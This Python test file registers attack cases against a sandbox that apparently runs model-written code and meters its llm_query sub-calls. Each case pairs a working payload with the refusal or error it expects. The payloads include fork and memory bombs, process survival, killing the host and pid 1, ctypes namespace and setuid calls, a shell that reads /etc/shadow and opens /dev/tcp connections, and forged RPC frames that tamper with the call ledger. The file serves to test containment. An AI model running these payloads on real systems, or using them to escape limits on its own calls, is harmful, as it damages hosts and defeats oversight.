"""Attacks from inside: resource bombs, processes and the kernel, the wire protocol and the ledger."""

from __future__ import annotations

from attack_cases.base import attack

# --- resources -------------------------------------------------------------------------------------
attack(
    "res-fork-bomb",
    "fork bomb",
    """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    said=("TimeoutError", "CPUTimeExceeded"),
)
attack(
    "res-thread-bomb",
    "thread bomb",
    """
import threading, time
n = 0
try:
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        n += 1
except Exception as exc:
    print('threads', n, type(exc).__name__)
""",
    said=("RuntimeError", "MemoryError"),
)
attack(
    "res-memory-bomb",
    "allocate memory until something breaks",
    """
blocks = []
while True:
    blocks.append(bytearray(100 * 2**20))
""",
    said=("MemoryError",),
    settings={
        "cell_timeout_s": 10.0,
        "cell_cpu_s": 8,
    },  # a gigabyte zero-filled in 100 MB blocks: seconds on a loaded 2-core host
)
attack(
    "res-infinite-loop",
    "infinite loop",
    "while True:\n    pass",
    said=("TimeoutError", "CPUTimeExceeded"),
)
attack(
    "res-cpu-threads",
    "threads burning CPU after the cell returns",
    """
import threading, time
def spin():
    while True:
        pass
for _ in range(3):
    threading.Thread(target=spin, daemon=True).start()
time.sleep(60)
""",
    said=("CPUTimeExceeded", "TimeoutError"),
)
attack(
    "res-deep-recursion",
    "unbounded recursion past a raised recursion limit",
    "import sys\nsys.setrecursionlimit(10**7)\ndef f(n):\n    return f(n + 1)\nf(0)",
    said=("Error", "REPL process died", "CPUTimeExceeded"),
)
attack(
    "res-huge-print",
    "print 300 MB of text",
    "print('x' * 300_000_000)",
    said=("characters omitted",),
    settings={
        "cell_timeout_s": 10.0,
        "cell_cpu_s": 8,
    },  # 300 MB through the capture: seconds on a loaded 2-core host
)
attack(
    "res-fd-flood",
    "write gigabytes straight to file descriptor 1 from a subprocess and from the REPL",
    """
import os, subprocess
subprocess.run('head -c 2000000000 /dev/zero | tr "\\\\0" y', shell=True)
try:
    for _ in range(4000):
        os.write(1, b'z' * (1 << 20))
except OSError as exc:
    print('stopped', exc.strerror)
""",
    said=("stopped",),
)
attack(
    "res-rlimit-raise",
    "raise its own resource limits",
    """
import resource
for name in ['NPROC', 'AS', 'CPU', 'FSIZE', 'NOFILE']:
    kind = getattr(resource, 'RLIMIT_' + name)
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print('RAISED', name)
    except (ValueError, OSError) as exc:
        print('refused', name, exc)
""",
    said=("not allowed to raise maximum limit",),
)
attack(
    "res-daemon-survivor",
    "leave processes behind (a daemonised fork and a new-session subprocess)",
    """
import os, subprocess, time
subprocess.Popen(['sh', '-c', 'sleep 300'], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    time.sleep(300)
print('left two processes behind')
""",
    said=("left two processes behind",),
)

# --- processes and the kernel ------------------------------------------------------------------------
attack(
    "proc-kill-host",
    "kill the host process, the parent, pid 1 and every process (-1)",
    """
import os, signal
for target in [$HOST_PID, os.getppid(), 1, -1]:
    try:
        os.kill(target, signal.SIGKILL)
        print('sent', target)
    except OSError as exc:
        print('refused', target, exc)
""",
)
attack(
    "proc-signal-tricks",
    "ignore SIGTERM/SIGINT, arm SIGALRM, then SIGSTOP itself so it never answers",
    """
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_REAL, 0.5)
os.kill(os.getpid(), signal.SIGSTOP)
""",
    said=("TimeoutError", "REPL process died"),
)
attack(
    "proc-ctypes",
    "ctypes system calls: setuid(0), unshare, mount, ptrace, sethostname, setns, chroot",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def setns_host_net():
    return libc.setns(os.open('/proc/1/ns/net', os.O_RDONLY), 0)
calls = {
    'setuid0': lambda: libc.setuid(0),
    'unshare_user_net': lambda: libc.unshare(0x10000000 | 0x40000000),
    'unshare_mount': lambda: libc.unshare(0x00020000),
    'mount_tmpfs': lambda: libc.mount(b'rlmx-pwn', b'/tmp', b'tmpfs', 0, None),
    'ptrace_pid1': lambda: libc.ptrace(16, 1, 0, 0),
    'sethostname': lambda: libc.sethostname(b'pwned', 5),
    'setns_net': setns_host_net,
    'chroot': lambda: libc.chroot(b'/tmp'),
}
for name, call in calls.items():
    try:
        rc = call()
        print(name, rc, os.strerror(ctypes.get_errno()) if rc != 0 else 'SUCCEEDED')
    except OSError as exc:
        print(name, 'refused', exc.strerror)
""",
    said=("Operation not permitted",),
)
attack(
    "proc-subprocess-shell",
    "a shell that reads secrets and opens /dev/tcp connections",
    """
import subprocess
script = ('id; env; cat /etc/shadow; cat $PLANTED; ls -la /root; '
          '(exec 3<>/dev/tcp/127.0.0.1/$PORT && echo pwned >&3); (exec 3<>/dev/tcp/$IP/$PORT); echo end')
r = subprocess.run(['bash', '-c', script], capture_output=True, text=True, timeout=10)
leak('SHELL', r.stdout + r.stderr)
""",
    said=("socket: Operation not permitted", "Network is unreachable"),
    said_landlock=("socket: Operation not permitted",),
)
attack(
    "proc-os-system",
    "os.system writing host files and killing the host",
    "import os\nprint(os.system('echo pwned > $TMP/pwned-system; touch $REPO/pwned-sys-$TOKEN; kill -9 $HOST_PID'))",
)
attack(
    "proc-setuid-tools",
    "privileged tools: su, mount, unshare -r, ping, newuidmap",
    """
import subprocess
for cmd in ['su -c id', 'mount -t tmpfs none /tmp', 'unshare -r id', 'unshare -n id', 'ping -c1 127.0.0.1',
            'newuidmap 1 0 0 1', 'id']:
    r = subprocess.run(cmd, shell=True, capture_output=True, text=True)
    print(cmd, '->', r.returncode, (r.stdout + r.stderr).strip()[:200])
""",
)
attack(
    "proc-zygote",
    "attack the namespace's pid 1 (the worker's init): kill, ptrace, read its memory and environ",
    """
import ctypes, os, signal
for sig in [signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP]:
    try:
        os.kill(1, sig)
    except OSError as exc:
        print('refused', sig, exc.strerror)
print('pid 1 still there:', os.path.exists('/proc/1'))
for path in ['/proc/1/environ', '/proc/1/mem', '/proc/1/maps']:
    try:
        leak(path, open(path, 'rb').read(4096))
    except OSError as exc:
        print('refused', path, exc.strerror)
print('ptrace', ctypes.CDLL(None, use_errno=True).ptrace(16, 1, 0, 0))
""",
    said=("pid 1 still there: True",),
)
attack(
    "proc-devices-sysfs",
    "raw devices, kernel logs, sysfs and cgroups, sysctls and sysrq",
    """
for path in ['/dev/mem', '/dev/kmem', '/dev/vda', '/dev/sda', '/dev/kmsg', '/sys/fs/cgroup/memory',
             '/sys/kernel', '/proc/kcore']:
    try:
        open(path, 'rb').read(16)
        print('READ', path)
    except OSError as exc:
        print('refused', path, exc.strerror)
for path, value in [('/proc/sys/kernel/hostname', 'pwned'), ('/proc/sysrq-trigger', 'h'),
                    ('/proc/sys/vm/drop_caches', '1')]:
    try:
        with open(path, 'w') as fh:
            fh.write(value)
        print('WROTE', path)
    except OSError as exc:
        print('refused', path, exc.strerror)
""",
)

# --- the protocol and the ledger ---------------------------------------------------------------------
attack(
    "ledger-tamper-modules",
    "patch the frames module and hammer the raw RPC from 8 threads to exceed max_llm_calls",
    """
import sys, threading
import rlmx.sandbox.frames as frames
frames.RPC_METHODS = frozenset([*frames.RPC_METHODS, 'read_file'])
sys.modules['rlmx.sandbox.worker'].MAX_PROMPT_CHARS = 10**12
w = llm_query.__self__
def hammer():
    for _ in range(25):
        try:
            w.rpc('llm_query', {'prompt': 'hammer', 'model': None})
        except BaseException:
            pass
threads = [threading.Thread(target=hammer) for _ in range(8)]
for t in threads:
    t.start()
for t in threads:
    t.join()
print('hammered')
""",
    ends="limit",
)
attack(
    "ledger-tamper-builtins",
    "replace builtins and llm_query with a version that retries refused calls for ever",
    """
import builtins
real_import = builtins.__import__
builtins.__import__ = lambda *a, **k: real_import(*a, **k)
orig = llm_query
def llm_query(prompt, model=None):
    while True:
        try:
            return orig(prompt, model)
        except Exception:
            continue
for i in range(1000):
    llm_query(f'again {i}')
""",
    ends="limit",
)
attack(
    "wire-unknown-method",
    "forge an RPC the protocol does not have (read_file /etc/shadow)",
    """
import time
import rlmx.sandbox.wire as wire
w = llm_query.__self__
wire.write_frame(w.out_fd, {'type': 'rpc', 'id': 10**6, 'method': 'read_file', 'params': {'path': '/etc/shadow'}})
time.sleep(2)
""",
    ends="error",
)
attack(
    "wire-forged-model-reply",
    "forge a frame claiming to be a model reply (an rpc_result, host-to-worker only)",
    """
import time
import rlmx.sandbox.wire as wire
w = llm_query.__self__
forged = 'FORGED-' + '$TOKEN'[::-1]
wire.write_frame(w.out_fd, {'type': 'rpc_result', 'id': 1, 'ok': True, 'result': forged})
time.sleep(2)
""",
    ends="error",
)
attack(
    "wire-malformed-frame",
    "forge an rpc frame with a field the protocol does not have and an id that is not a number",
    """
import time
import rlmx.sandbox.wire as wire
w = llm_query.__self__
wire.write_frame(w.out_fd, {'type': 'rpc', 'id': 'one', 'method': 'llm_query',
                            'params': {'prompt': 'p', 'model': None}, 'notes': ['forged']})
time.sleep(2)
""",
    ends="error",
)
attack(
    "wire-deep-json",
    "send a frame whose JSON nests 100,000 lists deep (past the parser's recursion limit)",
    """
import os, time
import rlmx.sandbox.wire as wire
w = llm_query.__self__
body = b'{"type": "rpc", "id": 1, "params": ' + b'[' * 100_000 + b']' * 100_000 + b'}'
os.write(w.out_fd, wire.HEADER.pack(len(body), 0) + body)
time.sleep(2)
""",
    ends="error",
)
attack(
    "wire-rpc-flood",
    "forge 500 llm_query requests at once, bypassing the worker's one-at-a-time lock",
    """
import time
import rlmx.sandbox.wire as wire
w = llm_query.__self__
for i in range(500):
    wire.write_frame(w.out_fd, {'type': 'rpc', 'id': 10**6 + i, 'method': 'llm_query',
                                'params': {'prompt': f'flood {i}', 'model': None}})
time.sleep(3)
""",
    ends="error",
)
attack(
    "wire-giant-frame",
    "send a frame header announcing 2 GB of JSON",
    """
import os, time
import rlmx.sandbox.wire as wire
w = llm_query.__self__
os.write(w.out_fd, wire.HEADER.pack(2**31, 0))
time.sleep(2)
""",
    ends="error",
)
attack(
    "wire-huge-llm-query",
    "send a 1 GB string through llm_query",
    "s = 'x' * 2**30\nprint(len(s))\nllm_query(s)",
    said=("too large to send",),
    settings={
        "memory_mb": 3072,
        "cell_timeout_s": 10.0,
        "cell_cpu_s": 8,
    },  # a 1 GB string: seconds on a loaded host
)
attack(
    "wire-forged-huge-prompt",
    "forge an llm_query of 40 MB, past the worker's own size check",
    """
import rlmx.sandbox.wire as wire
w = llm_query.__self__
with w.lock:
    wire.write_frame(w.out_fd, {'type': 'rpc', 'id': 10**6, 'method': 'llm_query',
                                'params': {'prompt': 'y' * 40_000_000, 'model': None}})
    reply, _ = wire.read_frame(w.in_fd)
print('host said:', str(reply.get('failure'))[:200])
""",
    said=("exceeds the window",),
)
attack(
    "wire-replies-never-read",
    "ask for large sub-call replies, never read them, and spin (the host must not hang)",
    """
import rlmx.sandbox.wire as wire
w = llm_query.__self__
for i in range(8):
    wire.write_frame(w.out_fd, {'type': 'rpc', 'id': 10**6 + i, 'method': 'llm_query',
                                'params': {'prompt': f'big {i}', 'model': None}})
while True:
    pass
""",
    said=("TimeoutError", "CPUTimeExceeded"),
    sub="R" * 200_000,
)
